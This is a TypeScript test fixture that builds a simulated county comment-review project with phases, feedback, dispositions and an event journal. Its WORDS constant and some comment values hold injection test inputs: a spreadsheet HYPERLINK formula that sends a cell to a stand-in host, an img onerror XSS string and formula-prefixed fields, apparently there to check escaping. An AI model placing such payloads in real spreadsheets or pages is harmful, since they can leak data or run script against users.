import { createHash } from 'node:crypto';
import { hashed } from '../../client/comment-words';
import type { PhaseCommand, ReceiveFeedback } from '../../domain/commands';
import type { CommentKind, Disposition, MailRef, PhaseEvent } from '../../domain/events';
import { type Instant, phaseStream, projectStream } from '../../domain/ids';
import { extend } from '../../domain/moved-deadline';
import { openPhase } from '../../domain/opening';
import type { Contact, Launch } from '../../domain/plan';
import type { CommentText, DomainEvent, Recorded } from '../../domain/ports';
import type { StoredWords } from '../../domain/report-comments';
import { after } from '../domain/given';
import { givenContact, givenDirectory, givenLaunch, pacific } from './given-plan';

/** What people wrote: what a spreadsheet would run, what a browser would run, and what breaks a table. */
export const WORDS = {
  formula: '=HYPERLINK("http://collect.example/?"&A1;"see here")',
  html: 'Read <img src=x onerror=alert(1)> & <b>this</b> &lt;',
  table: 'a | b\n`code` and *stars*, C:\\new_names',
  spaced: '  +1 555 0100',
};

/** Eight counties, two of which share an agency; everything that can become of one becomes of one of them. */
export const COUNTIES = ['adams', 'blaine', 'carter', 'dawson', 'elko', 'fallon', 'grant', 'harney'] as const;
type County = (typeof COUNTIES)[number];

const nameOf = (id: string) => `${id[0]?.toUpperCase()}${id.slice(1)} County`;
const PLACES: Record<County, readonly [region: string, setting: string]> = {
  adams: ['North', 'rural'],
  blaine: ['North', 'urban'],
  carter: ['South', 'rural'],
  dawson: ['South', 'rural'],
  elko: ['South', 'urban'],
  fallon: ['', 'urban'],
  grant: ['North', 'rural'],
  harney: ['', 'rural'],
};

/** A project of three phases: the first opened by an override, the second under way, the third to come. */
export function givenProject() {
  const launch = launchOfEight();
  const phases = { 'phase-1': firstPhase(launch), 'phase-2': secondPhase(launch) };
  return { launch, phases, recorded: recordedOf(launch, phases), words: [...written.values()], now: at('2026-03-18 10:00') };
}

export const at = (local: string): Instant => pacific(local, local >= '2026-03-08 02:00' ? '-07:00' : '-08:00');

function launchOfEight(): Launch {
  const people = COUNTIES.flatMap((id) => [person(id, 'coordinator', 'Training Coordinator'), person(id, 'alternate', 'Deputy')]);
  const { contacts, participants } = givenDirectory(COUNTIES, people);
  const phase = { grace: '1bd', gate: { opens: 'all-answered-or-deadline', heldBy: ['objections'], minimumOpen: 0 } };
  const named = participants.map((each) => {
    const [region, setting] = PLACES[each.id as County];
    return { ...each, name: nameOf(each.id), region, setting, agency: each.id === 'carter' ? 'South Agency' : '' };
  });
  const launch = givenLaunch({ phases: [phase, phase, phase] }, { participants: named, contacts });
  return { ...launch, launchedAt: at('2026-03-02 08:00') };
}

const person = (id: string, role: Contact['role'], title: string): Contact =>
  givenContact(id, { role, name: `${title}, ${nameOf(id)}` });

function firstPhase(launch: Launch): PhaseEvent[] {
  const say = answers(1);
  return after(
    [],
    [{ type: 'Begin', opening: openPhase(launch, 'phase-1', { from: at('2026-03-02 09:00') }) }, at('2026-03-02 09:00')],
    ...COUNTIES.slice(0, -1).map((id) => [accepted(id, 'coordinator'), at('2026-03-02 09:00')] as const),
    [refused('harney', 'coordinator'), at('2026-03-02 09:00')],
    [refused('harney', 'alternate'), at('2026-03-02 09:05')],
    [say('grant', '2026-03-05 11:00', [['other', { text: 'Too long.' }]]), at('2026-03-05 11:00')],
    [say('adams', '2026-03-06 10:15', ALL_KINDS), at('2026-03-06 10:15')],
    [waive('dawson'), at('2026-03-09 09:30')],
    [extendTo(launch, 'carter', '2026-03-13', '2026-03-09 10:00'), at('2026-03-09 10:00')],
    [say('fallon', '2026-03-10 17:00', [], { position: 'objection' }), at('2026-03-10 17:00')],
    [
      say('blaine', '2026-03-11 10:00', [['deletion', { text: WORDS.table, place: '§ 2' }]], { enteredBy: 'Clerk (phone)' }),
      at('2026-03-11 10:00'),
    ],
    [{ type: 'LetTimePass' }, at('2026-03-11 17:00')],
    [hold('elko', '2026-03-12 08:00'), at('2026-03-12 08:00')],
    [
      { type: 'Settle', item: message('elko', '2026-03-12 08:00'), verdict: 'does-not-count', by: 'Clerk', reason: 'spam' },
      at('2026-03-12 08:30'),
    ],
    [say('carter', '2026-03-12 09:00', [], { position: 'no-comments' }), at('2026-03-12 09:00')],
    [
      say('grant', '2026-03-12 11:00', [['augmentation', { text: 'Shorter.', place: '1', proposed: 'Short.' }]]),
      at('2026-03-12 11:00'),
    ],
    ...DISPOSED.map(([comment, disposition, reason]) => [dispose(comment, disposition, reason), at('2026-03-12 14:00')] as const),
    [{ type: 'AdvanceGate', override: true, by: 'Clerk', reason: 'the board meets' }, at('2026-03-13 10:00')],
    [say('elko', '2026-03-16 09:00', [['other', { text: 'Sorry, late.' }]]), at('2026-03-16 09:00')],
  );
}

function secondPhase(launch: Launch): PhaseEvent[] {
  const say = answers(2);
  return after(
    [],
    [{ type: 'Begin', opening: openPhase(launch, 'phase-2', { from: at('2026-03-16 09:00') }) }, at('2026-03-16 09:00')],
    ...COUNTIES.map((id) => [accepted(id, 'coordinator'), at('2026-03-16 09:00')] as const),
    [say('adams', '2026-03-17 09:00', [], { position: 'no-comments' }), at('2026-03-17 09:00')],
    [
      say('blaine', '2026-03-17 10:00', [['other', { text: 'We have grave concerns.' }]], { doubts: ['possible-objection'] }),
      at('2026-03-17 10:00'),
    ],
    [hold('carter', '2026-03-17 11:00'), at('2026-03-17 11:00')],
  );
}

type Said = readonly (readonly [CommentKind, Partial<CommentText>])[];

const ALL_KINDS: Said = [
  ['addition', { text: WORDS.formula, proposed: '@SUM(A1)', reason: '-1' }],
  ['deletion', { text: WORDS.html, place: '<script>' }],
  ['augmentation', { text: WORDS.spaced }],
  ['other', { text: 'A fourth.' }],
  ['other', { text: 'A fifth.' }],
  ['other', { text: 'A sixth.' }],
  ['other', { text: 'A seventh.' }],
];

const ADAMS = message('adams', '2026-03-06 10:15');
const DISPOSED: readonly (readonly [comment: string, Disposition, reason: string])[] = [
  [`${ADAMS}.1`, 'accepted', ''],
  [`${ADAMS}.2`, 'accepted-in-part', 'the first half'],
  [`${ADAMS}.3`, 'rejected', '=nothing to change'],
  [`${ADAMS}.4`, 'noted', ''],
  [`${ADAMS}.5`, 'out-of-scope', 'another project'],
  [`${ADAMS}.6`, 'duplicate', 'of the fourth'],
];

/** The words of every comment that was said, as the database would keep them. */
const written = new Map<string, StoredWords>();

function answers(_phase: number) {
  return (participant: County, when: string, said: Said, over: Partial<Omit<ReceiveFeedback, 'type'>> = {}): ReceiveFeedback => ({
    type: 'ReceiveFeedback',
    ...{ participant, contact: `${participant}.coordinator`, message: message(participant, when), receivedAt: at(when) },
    ...{ position: 'comments', adds: false, doubts: [], comments: keep(message(participant, when), said) },
    ...over,
  });
}

function hold(participant: County, when: string): PhaseCommand {
  const comments = keep(message(participant, when), [['other', { text: 'What is this about?' }]]);
  return {
    type: 'HoldMessage',
    ...{ participant, contact: `${participant}.coordinator`, message: message(participant, when), receivedAt: at(when) },
    ...{ because: 'question', comments },
  };
}

function keep(of: string, said: Said) {
  return said.map(([kind, words], i) => {
    const whole = { place: '', text: '', proposed: '', reason: '', ...words };
    const comment = hashed({ id: `${of}.${i + 1}`, kind, ...whole });
    written.set(comment.id, { ...whole, id: comment.id, sha256: comment.sha256 });
    return comment;
  });
}

/** An id as the inbox gives it: the SHA-256 of the bytes. */
export function message(county: County, when: string): string {
  return createHash('sha256').update(`${county} ${when}`).digest('hex');
}

const request = (participant: County, role: string): MailRef => ({
  ...{ kind: 'request', participant, to: `${participant}.${role}`, round: 1, rung: 0, deadlineNo: 1, about: '' },
});
const accepted = (county: County, role: string): PhaseCommand => ({
  ...{ type: 'ReportMail', mail: request(county, role), outcome: { outcome: 'accepted' } },
});
const refused = (county: County, role: string): PhaseCommand => ({
  type: 'ReportMail',
  mail: request(county, role),
  outcome: { outcome: 'refused', reply: `550 <${role}@${county}.example> unknown` },
});
const waive = (participant: County): PhaseCommand => ({
  ...{ type: 'WaiveParticipant', participant, by: 'Clerk', reason: 'no program of its own' },
});
const dispose = (comment: string, disposition: Disposition, reason: string): PhaseCommand => ({
  ...{ type: 'DisposeComment', comment, disposition, by: 'Analyst', reason },
});

function extendTo(launch: Launch, participant: County, until: string, now: string): PhaseCommand {
  const currentDeadline = at('2026-03-10 17:00');
  const schedule = extend(launch, 'phase-1', { currentDeadline, until, now: at(now) });
  return { type: 'ExtendDeadline', extensions: [{ participant, schedule }], by: 'Clerk', reason: 'flood' };
}

/** The journal of the project, phase after phase. */
function recordedOf({ plan, hash }: Launch, phases: Readonly<Record<string, readonly PhaseEvent[]>>): Recorded[] {
  const project = plan.project.id;
  const launched: DomainEvent = {
    ...{ type: 'ProjectLaunched', at: at('2026-03-02 08:00'), project, planHash: hash },
    ...{ phases: plan.phases.map(({ id }) => id), by: 'Clerk', now: false },
  };
  const streams = Object.entries(phases).flatMap(([phase, events]) =>
    events.map((event, i) => ({ stream: phaseStream(project, phase), version: i + 1, event: event as DomainEvent })),
  );
  return [{ stream: projectStream(project), version: 1, event: launched }, ...streams].map((one, i) => ({
    ...one,
    ...{
      position: i + 1,
      recordedAt: one.event.at,
      prevHash: `hash-${i}`,
      hash: `hash-${i + 1}`,
      data: JSON.stringify(one.event),
    },
  }));
}
